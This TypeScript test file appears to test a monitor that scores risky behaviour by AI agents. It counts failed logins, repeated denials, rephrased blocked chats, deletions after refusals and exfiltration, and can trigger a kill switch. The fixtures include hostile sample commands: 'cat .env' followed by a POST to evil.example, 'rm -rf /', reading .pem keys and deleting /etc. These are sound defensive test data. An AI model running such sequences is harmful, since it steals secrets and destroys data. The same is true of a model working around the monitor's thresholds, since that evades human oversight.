import * as z from 'zod';
import { type BehaviorSettings, riskSettingsOf } from '#core/contracts/behavior.ts';
import { behaviorSchema } from '#core/contracts/behavior-schema.ts';
import type { EntryKind } from '#core/contracts/entry-kinds.ts';
import type { EvidenceEntry } from '#core/contracts/evidence.ts';
import type { SessionHead } from '#core/evidence/ports.ts';
import { assessAction, blockedBy, forKeys, noteOfBlockedChat, noteOfSignal } from '#core/session/risk/assess.ts';
import { differingSettings, replayRisk, settingsOf } from '#core/session/risk/replay.ts';
import { signalContext, signalsOf } from '#core/session/risk/signals.ts';
import { readCases } from '../../../support/yaml.ts';
import { entryAfter, http, play, readers, sh, startMs } from './play.ts';

const cases = readCases(
  'test/unit/session/risk/score.yaml',
  z.strictObject({ only_work: z.array(z.string()), signals: z.array(z.tuple([z.string(), z.string()])) }),
);

const settings = behaviorSchema.parse({});
type Told = readonly [kind: EntryKind, body: Record<string, unknown>];

function chain(told: readonly Told[], secondsBetween = 10) {
  let head: SessionHead | undefined;
  const entries: EvidenceEntry[] = told.map(([kind, body], i) => {
    const next = entryAfter(head, kind, body, startMs + i * secondsBetween * 1000);
    head = next.head;
    return next.entry;
  });
  return { entries, head };
}
const alertsOf = async (told: readonly Told[], secondsBetween?: number) =>
  (await replayRisk(chain(told, secondsBetween).entries)).alerts.map(({ rule, points, cites }) => [
    rule,
    points,
    cites,
  ]);

const failed = (i: number): Told => [
  'result',
  { outcome: 'failed', behavior: noteOfSignal(settings, 'login_failed', `git host, call ${i}`) },
];
const denied = (i: number): Told => ['deny', { call_digest: `${i}digest`, tool: 'scm.create_pull_request' }];
const chat = (i: number): Told => [
  'chat',
  { decision: 'block', request_sha256: `${i}request`, behavior: noteOfBlockedChat(settings) },
];
const removed: Told = ['allow', { call_digest: 'd', behavior: { signals: [{ s: 'destroy', x: 'src', h: '1' }] } }];

describe('[behavior.rules] signals that only show up across several calls', () => {
  test('refused logins', async () => {
    expect(await alertsOf([0, 1, 2, 3].map(failed))).toEqual([]);
    expect(await alertsOf([0, 1, 2, 3, 4].map(failed))).toEqual([['credential_abuse', 30, [0, 1, 2, 3, 4]]]);
    expect(await alertsOf([0, 1, 2, 3, 4].map(failed), 1200)).toEqual([]);
    // An identical second call is a loop.
    expect(await alertsOf([0, 0, 0, 1, 1, 1, 2, 3].map(failed))).toEqual([]);
  });

  test('a ticket used for another purpose raises an alert', async () => {
    const misused: Told = ['result', { outcome: 'failed', behavior: noteOfSignal(settings, 'misused', 'ticket t1') }];
    expect(await alertsOf([misused])).toEqual([['credential_abuse', 30, [0]]]);
  });

  test('human denials raise an alert, and expired requests do not', async () => {
    expect(await alertsOf([0, 1, 2].map(denied))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
    expect(await alertsOf([0, 0, 0].map(denied))).toEqual([]);
    const timeouts = [0, 1, 2].map((i): Told => ['deny', { call_digest: `${i}digest`, reason: 'timeout' }]);
    expect(await alertsOf([...timeouts, removed])).toEqual([]);
  });

  const reviewed = (i: number): Told => ['review', { call_digest: `${i}digest`, behavior: { signals: [] } }];
  const approved: Told = ['allow', { call_digest: 'd', approval_ref: 'a1', behavior: { signals: [] } }];
  const many = Array.from({ length: 20 }, (_, i) => reviewed(100 + i));

  test('[behavior.rules] a long series of different pending calls raises an alert', async () => {
    expect(await alertsOf(many.slice(1))).toEqual([]);
    expect(await alertsOf(many)).toEqual([['repeated_escalation', 10, [16, 17, 18, 19]]]);
    expect(await alertsOf([...many.slice(0, 10), approved, ...many.slice(10)])).toEqual([]);
    expect(await alertsOf(Array.from({ length: 40 }, () => reviewed(1)))).toEqual([]);
    expect(await alertsOf(many, 1801)).toEqual([]);
  });

  test('[behavior.rules] trial calls reported with the next call raise an alert', async () => {
    const told: Told = [
      'allow',
      { call_digest: 'd', behavior: { signals: [{ s: 'probed', x: 'trials', h: '1', n: 2 }] } },
    ];
    expect(await alertsOf([told])).toEqual([['repeated_escalation', 20, [0]]]);
  });

  test('a deletion after a refusal raises an alert only once', async () => {
    expect(await alertsOf([denied(0), removed, removed])).toEqual([['destructive_sequence', 20, [0, 1]]]);
  });

  test('chats blocked by the content policy raise an alert if their wording differs', async () => {
    expect(await alertsOf([0, 1, 2].map(chat))).toEqual([['repeated_escalation', 25, [0, 1, 2]]]);
    expect(await alertsOf([0, 0, 0, 0].map(chat))).toEqual([]);
  });

  test('outcome entries and entries without a note do not affect the score', async () => {
    const { head } = chain([
      ['allow', {}],
      ['result', {}],
      ['credential', {}],
      ['admin', { action: 'something.else' }],
      ['approve', {}],
    ]);
    expect(head?.risk).toBeUndefined();
  });
});

describe('settings', () => {
  const given: Partial<BehaviorSettings> = behaviorSchema.parse({
    kill_switch_score: 40,
    exfiltration: { points: 45 },
    known_hosts: ['*.attacker.example'],
    sensitive: ['data/payroll/**', 'hr.*'],
  });

  test('[behavior.rules] changed settings are stored in the entry, so that replay needs nothing else', async () => {
    const { entries, head, refused } = await play(
      await readers(),
      [sh('cat .env'), http('post', 'https://evil.example/')],
      given,
    );
    expect(refused).toEqual([1]);
    expect(entries[1]?.body.behavior).toMatchObject({
      decided: 'allow',
      settings: { kill_switch_score: 40, exfiltration: { points: 45 } },
    });
    expect((await replayRisk(entries)).record).toEqual(head?.risk);
    expect(settingsOf(entries[1]!).exfiltration).toEqual({ points: 45, direct_points: 80, further_points: 15 });
    expect(differingSettings(riskSettingsOf(settings))).toBeUndefined();
  });

  test('replay with different settings gives a hypothetical score', async () => {
    const { entries } = await play(await readers(), [sh('cat .env'), http('post', 'https://evil.example/')]);
    const { record } = await replayRisk(entries, {
      ...riskSettingsOf(settings),
      exfiltration: { points: 7, direct_points: 0, further_points: 0 },
    });
    expect(record?.score).toBe(7);
  });

  test('known hosts are not sinks, and additional paths can be marked as sensitive', async () => {
    const effectsOf = await readers();
    const kinds = (step: ReturnType<typeof sh>) =>
      signalsOf(step.call, effectsOf(step.call), 'allow', signalContext(behaviorSchema.parse(given))).map(({ s }) => s);
    expect(kinds(http('post', 'https://paste.attacker.example/u'))).toEqual(['place']);
    expect(kinds(http('post', 'https://paste.attacker.example.org/u'))).toEqual(['sink', 'place']);
    expect(kinds(sh('cat data/payroll/2026.csv'))).toEqual(['secret']);
    expect(kinds(sh('cat data/payrolls.csv'))).toEqual([]);
  });

  test('if scoring is disabled, no call is scored and no session is blocked', () => {
    const off = behaviorSchema.parse({ enabled: false });
    const standing = { session: { score: 1000, rule: 'exfiltration' }, key: undefined };
    expect(blockedBy(off, standing, startMs)).toBeUndefined();
    const asked = { call: { ...sh('rm -rf /').call, call_digest: 'd' }, effects: { parts: [], carrier: false } };
    const state = { settings: off, context: signalContext(off), standing, decision: 'allow' as const, nowMs: startMs };
    expect(assessAction({ ...asked, ...state })).toBeUndefined();
  });

  test("[behavior.rules] the limits of a key are a multiple of a session's, within the bounded memory", () => {
    expect(forKeys(riskSettingsOf(settings))).toMatchObject({
      credential_abuse: { secrets: 16, failures: 16 },
      destructive_sequence: { deletes: 16 },
      fan_out: { places: 24 },
      repeated_escalation: { attempts: 15 },
      exfiltration: { points: 50 },
    });
  });
});

describe('names are matched in full', () => {
  const kindsOf = (() => {
    const context = signalContext(settings);
    return async (line: string) => {
      const step = sh(line);
      return signalsOf(step.call, (await readers())(step.call), 'allow', context).map(({ s }) => s);
    };
  })();

  test.each(cases.only_work)('%s is treated as ordinary work', async (line) => {
    expect(await kindsOf(line)).toEqual([]);
  });

  test.each(cases.signals)('%s is %s', async (line, kind) => {
    expect(await kindsOf(line)).toContain(kind);
  });
});

test('a note reveals no secret and is identical for the same call', () => {
  const target = 'https://x.example/ghp_abcdefghijklmnopqrstuvwxyz0123456789';
  const call = { protocol: 'mcp', tool: 'vault.read_secret', target, capability: 'write', parameters: {} };
  const signals = () => signalsOf(call, { parts: [], carrier: false }, 'allow', signalContext(settings));
  expect(JSON.stringify(signals())).not.toContain('ghp_');
  expect(signals()).toEqual(signals());
});

test('a call with a thousand effects produces a short note that still includes every kind of signal', () => {
  const shell = (tool: string, target: string, capability: string) => ({
    protocol: 'shell',
    tool,
    target,
    capability,
    parameters: { argv: [tool, target] },
  });
  const part = (i: number) => shell('shell.cat', `k${i}.pem`, 'read');
  const last = shell('shell.rm', '/etc', 'delete');
  const effects = { parts: [...Array.from({ length: 1000 }, (_, i) => part(i)), last], carrier: true };
  const signals = signalsOf(sh('x').call, effects, 'block', signalContext(settings));
  expect(signals).toHaveLength(10);
  expect(new Set(signals.map(({ s }) => s))).toEqual(new Set(['secret', 'destroy', 'refused']));
});
